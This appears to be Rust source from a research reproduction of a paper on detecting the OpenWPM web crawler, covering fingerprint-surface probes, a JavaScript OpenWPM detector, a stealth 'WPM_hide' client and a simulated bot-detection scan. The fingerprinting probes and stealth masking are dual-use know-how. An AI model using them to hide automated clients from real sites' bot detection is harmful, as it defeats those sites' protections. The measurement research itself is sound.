        for (i, (wpm, hide)) in report.runs.iter().enumerate() {
            assert!(
                hide.total_requests() > wpm.total_requests(),
                "run {}: hide {} vs wpm {}",
                i + 1,
                hide.total_requests(),
                wpm.total_requests()
            );
            assert!(
                hide.cookies_of(CookieParty::Third) >= wpm.cookies_of(CookieParty::Third),
                "run {}: third-party cookies",
                i + 1
            );
        }
    }

    #[test]
    fn wpm_is_flagged_hide_is_not() {
        let report = small_compare();
        let (wpm, hide) = &report.runs[0];
        let wpm_flagged = wpm.sites.iter().filter(|s| s.flagged).count();
        let hide_flagged = hide.sites.iter().filter(|s| s.flagged).count();
        assert!(
            wpm_flagged > wpm.sites.len() * 9 / 10,
            "wpm flagged on {wpm_flagged}/{} sites",
            wpm.sites.len()
        );
        assert_eq!(hide_flagged, 0, "hide must never be flagged");
    }

    #[test]
    fn csp_reports_collapse_for_hide() {
        let report = small_compare();
        let (wpm, hide) = &report.runs[0];
        let wpm_csp = wpm.requests_of(ResourceType::CspReport);
        let hide_csp = hide.requests_of(ResourceType::CspReport);
        assert!(wpm_csp > 0, "vanilla must trigger CSP reports on strict sites");
        assert_eq!(hide_csp, 0, "hide must trigger none (Sec. 6.3.1)");
        assert!(wpm.blocked_sites() > 0);
        assert_eq!(hide.blocked_sites(), 0);
    }

    #[test]
    fn tracking_cookies_strongly_reduced_for_wpm() {
        let report = small_compare();
        let wpm_t = report.tracking_cookies(Client::Wpm, 0);
        let hide_t = report.tracking_cookies(Client::WpmHide, 0);
        assert!(
            hide_t as f64 >= wpm_t as f64 * 1.2,
            "tracking cookies: wpm {wpm_t} vs hide {hide_t} (paper: +41.7%)"
        );
    }

    #[test]
    fn effect_amplifies_across_runs() {
        let report = small_compare();
        let diff = |i: usize| {
            let (wpm, hide) = &report.runs[i];
            (hide.total_requests() as f64 - wpm.total_requests() as f64)
                / wpm.total_requests() as f64
        };
        assert!(
            diff(2) > diff(0),
            "re-identification must amplify: r1 {:.3} vs r3 {:.3}",
            diff(0),
            diff(2)
        );
    }

    #[test]
    fn differences_are_statistically_significant() {
        let report = small_compare();
        let w = report.wilcoxon_trackers(2).expect("enough non-zero pairs");
        assert!(w.significant_at_95(), "tracker diff p = {}", w.p_value);
    }

    #[test]
    fn coverage_gaps_exist_for_wpm() {
        let report = small_compare();
        let cov = report.coverage(0);
        // The deep-probe (iframe) sites create calls WPM misses.
        let ua = cov.get("window.navigator.userAgent");
        if let Some((wpm, hide)) = ua {
            assert!(wpm <= hide, "userAgent coverage: {wpm} vs {hide}");
        }
        // appendChild through elements is unobserved by vanilla due to
        // prototype pollution (Fig. 2 → Fig. 6).
        if let Some((wpm, hide)) = cov.get("window.document.appendChild") {
            assert!(wpm < hide, "appendChild: wpm {wpm} vs hide {hide}");
        }
    }

    #[test]
    fn tracking_classifier_criteria() {
        let mk = |value: &str, session: bool| Cookie {
            name: "uid0".into(),
            value: value.into(),
            domain: "tracker.example".into(),
            page_domain: "site.example".into(),
            expires_in_s: if session { None } else { Some(200 * 24 * 3600) },
        };
        // Dissimilar long-living values across 3 runs → tracking in each.
        let r1 = vec![mk("a1b2c3d4e5f60718", false)];
        let r2 = vec![mk("9f8e7d6c5b4a3920", false)];
        let r3 = vec![mk("0011223344556677", false)];
        let jars = [r1.as_slice(), r2.as_slice(), r3.as_slice()];
        assert_eq!(tracking_cookies_in_run(&jars, 0), 1);
        assert_eq!(tracking_cookies_in_run(&jars, 2), 1);
        // Identical values across runs → a shared constant, not tracking.
        let same = vec![mk("a1b2c3d4e5f60718", false)];
        let jars = [same.as_slice(), same.as_slice()];
        assert_eq!(tracking_cookies_in_run(&jars, 0), 0);
        // Session cookie → not tracking even with dissimilar values.
        let s1 = vec![mk("a1b2c3d4e5f60718", true)];
        let s2 = vec![mk("ffffeeeeddddcccc", true)];
        let jars = [s1.as_slice(), s2.as_slice()];
        assert_eq!(tracking_cookies_in_run(&jars, 0), 0);
        // Short value → not tracking.
        let short1 = vec![mk("ab12", false)];
        let short2 = vec![mk("cd34", false)];
        let jars = [short1.as_slice(), short2.as_slice()];
        assert_eq!(tracking_cookies_in_run(&jars, 0), 0);
        // Withheld in other runs → still a tracking cookie where served
        // (criterion 5 is vacuous without an observable pair).
        let empty: Vec<Cookie> = Vec::new();
        let jars = [r1.as_slice(), empty.as_slice()];
        assert_eq!(tracking_cookies_in_run(&jars, 0), 1);
        assert_eq!(tracking_cookies_in_run(&jars, 1), 0);
    }
}
