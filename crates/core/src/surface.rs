//! Fingerprint-surface analysis (paper Sec. 3, Tables 2–4).
//!
//! Combines the two fingerprinting methods of the paper — probe-list
//! fingerprinting (Jonker et al.) and DOM-traversal template attacks
//! (Schwarz et al.) — against each OpenWPM setup, diffing against a stock
//! Firefox of the same version. Also implements the Sec. 3.3 validator: a
//! detector exercising the four probe strategies, tested against OpenWPM
//! clients and consumer browsers.

use std::collections::BTreeMap;

use browser::{capture_template, diff, FingerprintProfile, Os, Page, RunMode, TemplateDiff};
use netsim::Url;
use openwpm::instrument::{stealth, vanilla};
use openwpm::StealthSettings;

/// Which instrumentation flavour to apply when building the client.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ClientKind {
    /// Plain OpenWPM client without the JS instrument.
    OpenWpm,
    /// With the vanilla JS instrument injected.
    OpenWpmInstrumented,
    /// WPM_hide: stealth instrumentation + geometry/webdriver masking.
    Hidden,
    /// A standalone Firefox (the diff baseline).
    StockFirefox,
    /// A Chromium-family consumer browser (cross-family validation).
    StockChrome,
}

/// A probe-list fingerprint: named probe → observed value.
pub type ProbeFingerprint = BTreeMap<&'static str, String>;

/// The probe list (the "specific list of properties" method). Each entry is
/// `(name, MiniJS expression)`; errors record as `<error: …>`.
pub const PROBES: &[(&str, &str)] = &[
    ("navigator.webdriver", "'' + navigator.webdriver"),
    ("navigator.userAgent", "navigator.userAgent"),
    ("navigator.platform", "navigator.platform"),
    ("navigator.languages.length", "'' + navigator.languages.length"),
    (
        "navigator.languages.extraProps",
        "(function () { var n = 0; var l = navigator.languages; \
         for (var k in l) { if (('' + k).indexOf('mozHeadless') === 0) { n++; } } return '' + n; })()",
    ),
    ("screen.width", "'' + screen.width"),
    ("screen.height", "'' + screen.height"),
    ("screen.availTop", "'' + screen.availTop"),
    ("screen.availLeft", "'' + screen.availLeft"),
    ("window.outerWidth", "'' + window.outerWidth"),
    ("window.outerHeight", "'' + window.outerHeight"),
    ("window.screenX", "'' + window.screenX"),
    ("window.screenY", "'' + window.screenY"),
    (
        "webgl.vendor",
        "(function () { var gl = document.createElement('canvas').getContext('webgl'); \
         return gl === null ? 'null' : '' + gl.getParameter(37445); })()",
    ),
    (
        "webgl.renderer",
        "(function () { var gl = document.createElement('canvas').getContext('webgl'); \
         return gl === null ? 'null' : '' + gl.getParameter(37446); })()",
    ),
    (
        "fonts.count",
        "(function () { var list = ['Arial', 'Courier New', 'Georgia', 'Times New Roman', \
         'Verdana', 'Helvetica', 'DejaVu Sans', 'Liberation Serif', 'Bitstream Vera Sans Mono']; \
         var n = 0; for (var i = 0; i < list.length; i++) { \
         if (document.fonts.check('12px ' + list[i])) { n++; } } return '' + n; })()",
    ),
    ("timezoneOffset", "'' + new Date().getTimezoneOffset()"),
    ("createElement.toString", "document.createElement.toString()"),
    ("typeof getInstrumentJS", "typeof window.getInstrumentJS"),
    (
        "Document.prototype.ownKeys",
        "Object.getOwnPropertyNames(Document.prototype).sort().join(',')",
    ),
    (
        "stack.appendChildProbe",
        "(function () { var s = ''; \
         var el = document.createElement('div'); \
         try { throw new Error('probe'); } catch (e) { s = '' + e.stack; } \
         return s.indexOf('openwpm') !== -1 ? 'instrument-frames' : 'clean'; })()",
    ),
];

/// Build a page for a client kind on a given OS/mode.
pub fn client_page(kind: ClientKind, os: Os, mode: RunMode) -> Page {
    let profile = match kind {
        ClientKind::OpenWpm | ClientKind::OpenWpmInstrumented => {
            FingerprintProfile::openwpm(os, mode)
        }
        ClientKind::Hidden => {
            let mut p = FingerprintProfile::openwpm(os, mode);
            let settings = StealthSettings::default();
            if let Some(g) = settings.window_geometry {
                p.geometry = g;
            }
            p
        }
        ClientKind::StockFirefox => FingerprintProfile::stock_firefox(os),
        ClientKind::StockChrome => FingerprintProfile::stock_chrome(os),
    };
    let mut page = Page::new(profile, Url::parse("https://fingerprint.probe/").unwrap(), None);
    let store = std::rc::Rc::new(std::cell::RefCell::new(openwpm::RecordStore::new()));
    match kind {
        ClientKind::OpenWpmInstrumented => {
            vanilla::install(&mut page, 1234, store, "https://fingerprint.probe/".into());
        }
        ClientKind::Hidden => {
            stealth::install(
                &mut page,
                &StealthSettings::default(),
                store,
                "https://fingerprint.probe/".into(),
            );
        }
        _ => {}
    }
    page
}

/// Capture the probe-list fingerprint of a page.
pub fn probe_fingerprint(page: &mut Page) -> ProbeFingerprint {
    let mut out = BTreeMap::new();
    for (name, expr) in PROBES {
        let v = match page.run_script((*expr, "fingerprint-probe.js")) {
            Ok(v) => page
                .interp
                .to_string_value(&v)
                .map(|s| s.to_string())
                .unwrap_or_else(|_| "<unstringifiable>".into()),
            Err(e) => format!("<error: {e}>"),
        };
        out.insert(*name, v);
    }
    out
}

/// The combined fingerprint surface of a client vs the stock baseline.
#[derive(Clone, Debug)]
pub struct SurfaceReport {
    pub os: Os,
    pub mode: RunMode,
    pub kind: ClientKind,
    /// Probes whose values deviate from stock Firefox: `(probe, stock, subject)`.
    pub probe_deviations: Vec<(&'static str, String, String)>,
    /// Template diff against stock Firefox.
    pub template: TemplateDiff,
}

impl SurfaceReport {
    /// Classify for the Table 2 rows.
    pub fn webdriver_true(&self) -> bool {
        self.probe_deviations
            .iter()
            .any(|(p, _, subj)| *p == "navigator.webdriver" && subj == "true")
    }

    pub fn screen_dimension_deviates(&self) -> bool {
        self.probe_deviations.iter().any(|(p, _, _)| {
            matches!(*p, "screen.width" | "screen.height" | "window.outerWidth" | "window.outerHeight")
        })
    }

    pub fn screen_position_deviates(&self) -> bool {
        self.probe_deviations
            .iter()
            .any(|(p, _, _)| matches!(*p, "window.screenX" | "window.screenY"))
    }

    pub fn font_enumeration_deviates(&self) -> bool {
        self.probe_deviations.iter().any(|(p, _, _)| *p == "fonts.count")
    }

    pub fn timezone_zero(&self) -> bool {
        self.probe_deviations
            .iter()
            .any(|(p, _, subj)| *p == "timezoneOffset" && subj == "0")
    }

    pub fn language_prop_count(&self) -> u32 {
        self.probe_deviations
            .iter()
            .find(|(p, _, _)| *p == "navigator.languages.extraProps")
            .and_then(|(_, _, subj)| subj.parse().ok())
            .unwrap_or(0)
    }

    /// Number of deviating WebGL properties (template paths).
    pub fn webgl_deviations(&self) -> usize {
        self.template.matching("webglContext")
    }

    /// Tampering artefacts from instrumentation: changed function sources,
    /// polluted prototypes.
    pub fn tampering_deviations(&self) -> usize {
        self.probe_deviations
            .iter()
            .filter(|(p, _, _)| {
                matches!(*p, "createElement.toString" | "Document.prototype.ownKeys" | "stack.appendChildProbe")
            })
            .count()
            + self
                .template
                .changed
                .iter()
                .filter(|path| {
                    path.contains("createElement")
                        || path.contains("appendChild")
                        || path.contains("addEventListener")
                        || path.contains("#ownKeys")
                })
                .count()
    }

    /// Custom functions added to `window` (the `getInstrumentJS` leak).
    pub fn added_custom_functions(&self) -> usize {
        usize::from(
            self.probe_deviations
                .iter()
                .any(|(p, _, subj)| *p == "typeof getInstrumentJS" && subj == "function"),
        )
    }

    pub fn total_deviations(&self) -> usize {
        self.probe_deviations.len() + self.template.total()
    }
}

/// Compute the fingerprint surface of `kind` on `(os, mode)` against a
/// stock Firefox on the same OS.
pub fn surface(kind: ClientKind, os: Os, mode: RunMode) -> SurfaceReport {
    let mut stock = client_page(ClientKind::StockFirefox, os, RunMode::Regular);
    let stock_probes = probe_fingerprint(&mut stock);
    let stock_template = capture_template(&mut stock);

    let mut subject = client_page(kind, os, mode);
    let subject_probes = probe_fingerprint(&mut subject);
    let subject_template = capture_template(&mut subject);

    let mut probe_deviations = Vec::new();
    for (name, stock_v) in &stock_probes {
        let subj_v = subject_probes.get(name).cloned().unwrap_or_default();
        if *stock_v != subj_v {
            probe_deviations.push((*name, stock_v.clone(), subj_v));
        }
    }
    SurfaceReport {
        os,
        mode,
        kind,
        probe_deviations,
        template: diff(&stock_template, &subject_template),
    }
}

// ------------------------------------------------------ Sec 3.3 validator

/// The OpenWPM detector of Sec. 3.3, exercising all four test strategies:
/// (1) presence of a DOM property, (2) absence, (3) overwritten native
/// function, (4) value comparison.
pub fn validator_script() -> &'static str {
    r#"(function () {
  var evidence = [];
  // (1) presence of a DOM property unique to OpenWPM's instrumentation.
  if (typeof window.getInstrumentJS !== 'undefined') { evidence.push('presence:getInstrumentJS'); }
  // (2) absence of a property every displayed browser has.
  var gl = document.createElement('canvas').getContext('webgl');
  if (gl === null) { evidence.push('absence:webgl'); }
  // (3) overwritten native function.
  var ts = '' + document.createElement.toString();
  if (ts.indexOf('[native code]') === -1) { evidence.push('overwritten:createElement'); }
  // (4) value comparison against OpenWPM's constants.
  if (navigator.webdriver === true) { evidence.push('value:webdriver'); }
  if (screen.width === 2560 && screen.height === 1440 && window.outerWidth === 1366 && window.outerHeight === 683) {
    evidence.push('value:geometry');
  }
  if (screen.width === 1366 && screen.height === 768 && window.outerWidth === 1366) {
    evidence.push('value:headless-geometry');
  }
  if (gl !== null) {
    var vendor = '' + gl.getParameter(37445) + '/' + gl.getParameter(37446);
    if (vendor.indexOf('VMware') !== -1 || vendor.indexOf('llvmpipe') !== -1) {
      evidence.push('value:webgl-vendor');
    }
  }
  if (screen.availTop === 0 && screen.availLeft === 0) { evidence.push('value:availTop'); }
  window.__validator = evidence.join(',');
  return evidence.length > 0;
})()"#
}

/// Run the validator against a client; returns `(identified, evidence)`.
pub fn validate(kind: ClientKind, os: Os, mode: RunMode) -> (bool, String) {
    let mut page = client_page(kind, os, mode);
    let hit = page
        .run_script((validator_script(), "https://validator.test/detect.js"))
        .map(|v| v.truthy())
        .unwrap_or(false);
    let evidence = page
        .run_script(("window.__validator", "probe"))
        .ok()
        .and_then(|v| v.as_str().map(str::to_owned))
        .unwrap_or_default();
    (hit, evidence)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn openwpm_regular_mode_has_exact_table2_signature() {
        let s = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Regular);
        assert!(s.webdriver_true());
        assert!(s.screen_dimension_deviates());
        assert!(s.screen_position_deviates());
        assert!(!s.font_enumeration_deviates());
        assert!(!s.timezone_zero());
        assert_eq!(s.language_prop_count(), 0);
        assert_eq!(s.added_custom_functions(), 0);
    }

    #[test]
    fn headless_loses_webgl_and_gains_language_props() {
        let s = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Headless);
        assert!(s.webgl_deviations() > 2000, "webgl deviations: {}", s.webgl_deviations());
        assert_eq!(s.language_prop_count(), 43);
    }

    #[test]
    fn xvfb_and_docker_webgl_counts() {
        let xvfb = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Xvfb);
        // 18 changed props + vendor/renderer probe paths.
        assert!(
            (15..=25).contains(&xvfb.webgl_deviations()),
            "xvfb: {}",
            xvfb.webgl_deviations()
        );
        let docker = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Docker);
        assert!(
            (24..=35).contains(&docker.webgl_deviations()),
            "docker: {}",
            docker.webgl_deviations()
        );
        assert!(docker.timezone_zero());
        assert!(docker.font_enumeration_deviates());
    }

    #[test]
    fn instrumentation_adds_custom_function_and_tampering() {
        let plain = surface(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Regular);
        let inst = surface(ClientKind::OpenWpmInstrumented, Os::Ubuntu1804, RunMode::Regular);
        assert_eq!(plain.added_custom_functions(), 0);
        assert_eq!(inst.added_custom_functions(), 1, "the getInstrumentJS leak");
        assert!(inst.tampering_deviations() > plain.tampering_deviations());
    }

    #[test]
    fn hidden_client_has_clean_surface_in_regular_mode() {
        let s = surface(ClientKind::Hidden, Os::Ubuntu1804, RunMode::Regular);
        assert!(!s.webdriver_true(), "webdriver must read false");
        assert!(!s.screen_dimension_deviates(), "geometry must match stock");
        assert!(!s.screen_position_deviates());
        assert_eq!(s.added_custom_functions(), 0);
        assert_eq!(
            s.probe_deviations.len(),
            0,
            "probe deviations: {:?}",
            s.probe_deviations
        );
    }

    #[test]
    fn validator_identifies_every_openwpm_mode_and_no_consumer_browser() {
        for mode in [RunMode::Regular, RunMode::Headless, RunMode::Xvfb, RunMode::Docker] {
            let (hit, ev) = validate(ClientKind::OpenWpm, Os::Ubuntu1804, mode);
            assert!(hit, "mode {mode:?} must be identified; evidence: {ev}");
        }
        let (hit, ev) = validate(ClientKind::OpenWpmInstrumented, Os::Ubuntu1804, RunMode::Regular);
        assert!(hit, "instrumented client: {ev}");
        let (hit, ev) = validate(ClientKind::StockFirefox, Os::Ubuntu1804, RunMode::Regular);
        assert!(!hit, "stock Firefox misidentified: {ev}");
        let (hit, ev) = validate(ClientKind::StockChrome, Os::Ubuntu1804, RunMode::Regular);
        assert!(!hit, "stock Chrome misidentified: {ev}");
    }

    #[test]
    fn rq2_fingerprint_surface_stable_across_instrument_versions() {
        // Sec. 3.2: surfaces of OpenWPM versions largely overlap; 0.10.0
        // leaves two custom window functions instead of one.
        use openwpm::instrument::vanilla::{self, InstrumentVintage};
        use std::cell::RefCell;
        use std::rc::Rc;
        let build = |vintage| {
            let mut page = client_page(ClientKind::OpenWpm, Os::Ubuntu1804, RunMode::Regular);
            let store = Rc::new(RefCell::new(openwpm::RecordStore::new()));
            vanilla::install_vintage(&mut page, 1, store, "p".into(), vintage);
            probe_fingerprint(&mut page)
        };
        let modern = build(InstrumentVintage::Modern);
        let legacy = build(InstrumentVintage::V0_10);
        // Overlap: the wrapped-function and geometry probes agree.
        let agreeing = modern
            .iter()
            .filter(|(k, v)| legacy.get(*k) == Some(v))
            .count();
        assert!(
            agreeing >= modern.len() - 1,
            "surfaces must largely overlap: {agreeing}/{}",
            modern.len()
        );
        // The difference: the leftover window-function names.
        assert_eq!(modern["typeof getInstrumentJS"], "function");
        assert_eq!(legacy["typeof getInstrumentJS"], "undefined");
    }

    #[test]
    fn validator_does_not_identify_hidden_client() {
        let (hit, ev) = validate(ClientKind::Hidden, Os::Ubuntu1804, RunMode::Regular);
        assert!(!hit, "WPM_hide identified: {ev}");
    }
}
