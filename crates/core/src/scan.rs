//! The Tranco-100K scan for client-side bot detection (paper Sec. 4).
//!
//! For every site: visit the front page and up to three subpages with the
//! scanning client (vanilla OpenWPM + honey properties + OpenWPM-property
//! watches), save every delivered script, record every JavaScript call,
//! then classify each script with the combined static + dynamic pipeline.
//! The aggregation reproduces Tables 5–7, 11–12 and the data behind
//! Figures 3–5.

use std::collections::{BTreeMap, HashSet};
use std::io::Write;
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use detect::DynamicClass;
use netsim::url::etld1_of;
use netsim::Url;
use openwpm::{
    run_supervised_fallible, run_supervised_folding, Browser, BrowserConfig, CrashInjector,
    CrashPlan, CrawlHistoryRecord, CrawlSummary, FailureReason, FaultPlan, ItemMeta, RetryPolicy,
    SiteResponse, SupervisorConfig, VisitOutcome, VisitSpec,
};
use webgen::{visit_spec, Category, PageKind, Population, SitePlan};

use crate::archive::{
    harvest_stream, ArchiveStats, Recorder, ReplayBundle, ReplayStats, StreamOutcome,
    StreamRecorder, Verifier,
};

/// Scan configuration.
#[derive(Clone, Copy, Debug)]
pub struct ScanConfig {
    pub n_sites: u32,
    pub seed: u64,
    pub workers: usize,
    /// Also visit up to three subpages (the paper's deep scan).
    pub include_subpages: bool,
    /// Simulate user interaction during the dwell (HLISA-style). The
    /// paper's scan did not; with interaction, hover-gated detectors fire
    /// and become dynamically visible (an ablation of Sec. 4.1's
    /// "code that happens not to be executed" limitation).
    pub simulate_interaction: bool,
    /// Injected crawl weather (crashes, hangs, …). Inert by default, so a
    /// plain scan behaves exactly as an unsupervised one.
    pub faults: FaultPlan,
    /// Retry/backoff policy for failed visits.
    pub retry: RetryPolicy,
    /// Watchdog limit per visit on the simulated clock.
    pub visit_timeout_ms: u64,
    /// Chronically flaky sites per 100K in the population (see
    /// `webgen::Targets::flaky_per_100k`); the fault injector boosts its
    /// rates on these.
    pub flaky_sites_per_100k: u32,
    /// Visit only the first N not-yet-completed sites, marking the rest
    /// interrupted — the deterministic "crawl killed midway" model used
    /// by checkpoint/resume tests.
    pub visit_budget: Option<usize>,
}

impl ScanConfig {
    pub fn new(n_sites: u32, seed: u64) -> ScanConfig {
        ScanConfig {
            n_sites,
            seed,
            workers: 4,
            include_subpages: true,
            simulate_interaction: false,
            faults: FaultPlan::none(),
            retry: RetryPolicy::default(),
            visit_timeout_ms: 60_000,
            flaky_sites_per_100k: 0,
            visit_budget: None,
        }
    }

    pub(crate) fn population(&self) -> Population {
        let mut pop = Population::new(self.n_sites, self.seed);
        pop.targets.flaky_per_100k = self.flaky_sites_per_100k;
        pop
    }

    fn supervisor(&self) -> SupervisorConfig {
        SupervisorConfig {
            retry: self.retry,
            visit_timeout_ms: self.visit_timeout_ms,
            faults: self.faults,
            visit_budget: self.visit_budget,
        }
    }
}

/// Per-page detection flags.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct PageFlags {
    /// Naive static pattern matched some script (includes false positives).
    pub static_identified: bool,
    /// Precise static patterns matched (true static finding).
    pub static_true: bool,
    /// Dynamic analysis saw fingerprint-surface access (includes
    /// inconclusive iterators).
    pub dynamic_identified: bool,
    /// Dynamic classification says Detector.
    pub dynamic_true: bool,
}

impl PageFlags {
    pub fn union_true(&self) -> bool {
        self.static_true || self.dynamic_true
    }

    pub fn union_identified(&self) -> bool {
        self.static_identified || self.dynamic_identified
    }

    fn or(&mut self, other: PageFlags) {
        self.static_identified |= other.static_identified;
        self.static_true |= other.static_true;
        self.dynamic_identified |= other.dynamic_identified;
        self.dynamic_true |= other.dynamic_true;
    }
}

/// One site's scan outcome.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SiteScanRecord {
    pub rank: u32,
    pub domain: String,
    pub categories: Vec<Category>,
    pub front: PageFlags,
    /// Front ∪ subpages.
    pub site: PageFlags,
    /// `(provider domain, property)` pairs of OpenWPM-specific probes.
    pub openwpm_probes: Vec<(String, String)>,
    /// Hosting domains (eTLD+1) of third-party detector scripts.
    pub third_party_domains: Vec<String>,
    /// URLs of first-party detector scripts (Table 12 clustering input).
    pub first_party_urls: Vec<String>,
    /// FNV-1a hashes of every script body collected on this site (the
    /// paper's corpus statistic: 1,535,306 unique scripts over 100K sites).
    pub script_hashes: Vec<u64>,
}

/// Everything one site serves for a scan: identity plus the fully
/// materialised page specs the browser will visit, in order (front first).
/// Built from a generated [`SitePlan`] for live scans, or decoded from a
/// crawl bundle for replays — `scan_site_visit` cannot tell the
/// difference, which is what makes archived re-measurement exact.
#[derive(Clone, Debug)]
pub struct SiteVisit {
    pub rank: u32,
    pub domain: String,
    pub categories: Vec<Category>,
    /// Chronically flaky site (boosted fault rates).
    pub flaky: bool,
    pub pages: Vec<VisitSpec>,
}

/// Materialise a site's visit from its generated plan: the front page and
/// (for deep scans) up to three subpages, each with the scan dwell that
/// covers 500 ms-delayed probes plus the 60 s dwell.
pub fn site_visit(plan: &SitePlan, include_subpages: bool) -> SiteVisit {
    let mut kinds = vec![PageKind::Front];
    if include_subpages {
        for i in 0..plan.subpage_count.min(3) {
            kinds.push(PageKind::Subpage(i));
        }
    }
    let pages = kinds
        .into_iter()
        .map(|kind| {
            let mut spec = visit_spec(plan, kind);
            spec.dwell_override_s = Some(61);
            spec
        })
        .collect();
    SiteVisit {
        rank: plan.rank,
        domain: plan.domain.clone(),
        categories: plan.categories.clone(),
        flaky: plan.flaky,
        pages,
    }
}

/// Scan one site with a scanning browser. A visit spec whose URL does not
/// parse surfaces as a typed [`FailureReason`] for the supervisor to
/// record, instead of panicking the worker.
pub fn scan_site(
    browser: &mut Browser,
    plan: &SitePlan,
    include_subpages: bool,
) -> Result<SiteScanRecord, FailureReason> {
    scan_site_visit(browser, &site_visit(plan, include_subpages), false)
}

/// Scan one materialised [`SiteVisit`] (live or replayed). With `capture`
/// set, a folded [`openwpm::StoreCapture`] fingerprint of every record the
/// visit produced is parked in the worker's capture slot for the
/// archive Recorder/Verifier hook to collect.
pub fn scan_site_visit(
    browser: &mut Browser,
    visit: &SiteVisit,
    capture: bool,
) -> Result<SiteScanRecord, FailureReason> {
    crate::archive::stash_capture(None);
    let mut record = SiteScanRecord {
        rank: visit.rank,
        domain: visit.domain.clone(),
        categories: visit.categories.clone(),
        front: PageFlags::default(),
        site: PageFlags::default(),
        openwpm_probes: Vec::new(),
        third_party_domains: Vec::new(),
        first_party_urls: Vec::new(),
        script_hashes: Vec::new(),
    };
    let mut captures = Vec::new();
    for (i, spec) in visit.pages.iter().enumerate() {
        // Flight-recorder breadcrumb: a forensic dump mid-visit names the
        // exact page in flight (detail allocation gated on the recorder).
        if obs::prof::recorder_armed() {
            obs::prof::ring_record("page", spec.url.clone());
        }
        browser.visit(spec, |_traffic| SiteResponse::default())?;
        let store = browser.take_store();
        if capture {
            captures.push(store.capture());
        }
        let flags = classify_page(&store, &visit.domain, &mut record);
        if i == 0 {
            record.front = flags;
        }
        record.site.or(flags);
    }
    record.third_party_domains.sort();
    record.third_party_domains.dedup();
    record.first_party_urls.sort();
    record.first_party_urls.dedup();
    record.openwpm_probes.sort();
    record.openwpm_probes.dedup();
    if capture {
        crate::archive::stash_capture(Some(crate::archive::fold_captures(&captures)));
    }
    Ok(record)
}

/// Classify one page's records; appends attribution data to `record`.
fn classify_page(
    store: &openwpm::RecordStore,
    domain: &str,
    record: &mut SiteScanRecord,
) -> PageFlags {
    let mut flags = PageFlags::default();
    let site_etld1 = etld1_of(domain);

    // --- static pipeline over saved scripts ---
    // One memoised classification per script body: the FNV-64 hash the
    // record keeps anyway doubles as the verdict-memo key, so a body shared
    // across subpages (or sites) is preprocessed and matched only once per
    // process.
    let mut static_by_url: BTreeMap<&str, detect::StaticFinding> = BTreeMap::new();
    for script in &store.saved_scripts {
        let body_hash = fnv1a(script.body.as_bytes());
        record.script_hashes.push(body_hash);
        let verdict = detect::classify_memo(&script.body, body_hash);
        let finding = verdict.finding;
        if verdict.naive_webdriver || finding.is_detector() {
            flags.static_identified = true;
        }
        if finding.is_detector() {
            flags.static_true = true;
            attribute_script(&script.url, site_etld1.as_str(), record);
        }
        for prop in &finding.openwpm_props {
            if let Some(u) = Url::parse(&script.url) {
                record.openwpm_probes.push((u.etld1(), (*prop).to_owned()));
            }
        }
        static_by_url.insert(script.url.as_str(), finding);
    }

    // --- dynamic pipeline over recorded calls ---
    let honey_total = 10; // the scanner config's honey property count
    for obs in detect::observe(store) {
        let statically_flagged = static_by_url
            .get(obs.script_url.as_str())
            .map(|f| f.selenium)
            .unwrap_or(false);
        let touched = obs.accessed_webdriver || !obs.openwpm_props.is_empty();
        if touched {
            flags.dynamic_identified = true;
        }
        match obs.classify(honey_total, statically_flagged) {
            DynamicClass::Detector => {
                flags.dynamic_true = true;
                attribute_script(&obs.script_url, site_etld1.as_str(), record);
                for prop in &obs.openwpm_props {
                    if let Some(u) = Url::parse(&obs.script_url) {
                        let name = prop.trim_start_matches("window.").to_owned();
                        record.openwpm_probes.push((u.etld1(), name));
                    }
                }
            }
            DynamicClass::Inconclusive | DynamicClass::NotDetector => {}
        }
    }
    flags
}

/// FNV-1a over bytes — the script-identity hash of the corpus statistics.
fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

fn attribute_script(script_url: &str, site_etld1: &str, record: &mut SiteScanRecord) {
    let Some(u) = Url::parse(script_url) else { return };
    let host_etld1 = u.etld1();
    if host_etld1 == site_etld1 {
        record.first_party_urls.push(script_url.to_owned());
    } else {
        record.third_party_domains.push(host_etld1);
    }
}

/// Classify a first-party detector URL into a Table 12 origin cluster by
/// its path pattern (the attribution method of Appx. A).
pub fn first_party_origin_of(url: &str) -> &'static str {
    let path = Url::parse(url).map(|u| u.path).unwrap_or_default();
    if path.starts_with("/akam/11/") {
        "Akamai"
    } else if path.contains("_Incapsula_Resource") {
        "Incapsula"
    } else if path.starts_with("/cdn-cgi/bm/cv/") {
        "Cloudflare"
    } else if path.ends_with("/init.js")
        && path.split('/').nth(1).map(|s| s.len() == 8).unwrap_or(false)
    {
        "PerimeterX"
    } else if path.starts_with("/assets/")
        && path.split('/').nth(2).map(|s| s.len() >= 31 && s.chars().all(|c| c.is_ascii_hexdigit())).unwrap_or(false)
    {
        "Unknown"
    } else {
        "SelfBuilt"
    }
}

/// Whole-scan report.
#[derive(Clone, Debug, Default)]
pub struct ScanReport {
    pub n_sites: u32,
    /// Records of sites whose visits completed. Failed or interrupted
    /// sites contribute no record — they are accounted in `completion`
    /// and `history` instead, and every printed table must carry the
    /// coverage denominator (the paper's completeness lesson).
    pub sites: Vec<SiteScanRecord>,
    /// Crawl completeness rollup.
    pub completion: CrawlSummary,
    /// Per-site `crawl_history` rows (ok / failed / interrupted).
    pub history: Vec<CrawlHistoryRecord>,
    /// Bundle statistics when the scan was recorded (`Scan::record`).
    pub archive: Option<ArchiveStats>,
    /// Verification statistics when the scan was replayed (`Scan::replay`).
    pub replay: Option<ReplayStats>,
    /// Pre-folded table state when the scan was streamed
    /// ([`Scan::stream_to`]): records are flushed to disk and dropped as
    /// they complete, so `sites` stays empty and every table method reads
    /// from here instead.
    pub aggregates: Option<ScanAggregates>,
    /// Crash-recovery and memory statistics for a streamed scan.
